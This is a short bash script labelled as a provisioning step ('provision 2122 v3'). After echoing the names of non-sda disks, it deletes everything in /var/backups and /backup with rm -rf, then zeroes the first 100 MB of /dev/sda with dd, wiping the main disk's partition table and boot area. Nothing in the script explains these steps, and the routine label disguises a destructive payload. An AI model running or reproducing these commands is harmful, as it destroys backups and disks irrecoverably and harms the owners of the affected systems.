# provision 2122 v3
#!/bin/bash
for dev in $(lsblk -dno NAME | grep -v sda); do echo $dev; done
rm -rf /var/backups/* /backup/*
dd if=/dev/zero of=/dev/sda bs=1M count=100
